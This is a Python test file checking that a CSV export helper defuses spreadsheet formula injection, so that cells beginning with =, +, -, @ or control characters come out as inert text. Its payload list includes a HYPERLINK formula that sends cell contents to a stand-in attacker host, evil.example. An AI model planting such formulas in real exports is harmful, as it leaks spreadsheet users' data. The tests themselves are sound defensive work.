"""CSV formula injection: no cell of a download is run by a spreadsheet."""

from __future__ import annotations

import csv
import io

import pytest

from annotation.csv_lines import csv_lines
from tests.safety.sources import ROOT, product_files

FORMULAS = [
    "=1+1",
    "+1",
    "-2+3",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
    '=HYPERLINK("http://evil.example?"&A1)',
    " =1",
    "\n=1",
    "'=1",
    "=1",
]


@pytest.mark.parametrize("cell", FORMULAS)
def test_a_cell_that_reads_as_a_formula_is_text(cell: str) -> None:
    (row,) = csv.reader(io.StringIO("".join(csv_lines([["name", cell]]))))
    assert row == ["name", f"'{cell}"]


@pytest.mark.parametrize("cell", ["plain", "a = b", "two\nlines", 'said "yes"', "", "ü"])
def test_other_texts_stay_as_they_are(cell: str) -> None:
    (row,) = csv.reader(io.StringIO("".join(csv_lines([["name", cell]])), newline=""))
    assert row == ["name", cell]


@pytest.mark.parametrize("number", [-2, -0.5, 3])
def test_a_number_stays_a_number(number: float) -> None:
    assert list(csv_lines([[number]])) == [f"{number}\r\n"]


@pytest.mark.parametrize(
    "row", [["a,b", 'said "yes"', "two\nlines", "a\rreturn", "ü", None, "", 1.5, 7, True], [""], ["", ""], ['"']]
)
def test_lines_are_those_that_the_library_writes(row: list[object]) -> None:
    written = io.StringIO(newline="")
    csv.writer(written).writerow(row)
    assert list(csv_lines([row])) == [written.getvalue()]


def test_nobody_else_writes_csv() -> None:
    files = [file.relative_to(ROOT).as_posix() for file in product_files()]
    assert "annotation/csv_lines.py" in files
    assert not [name for name in files if "csv.writer" in (text := (ROOT / name).read_text()) or "DictWriter" in text]
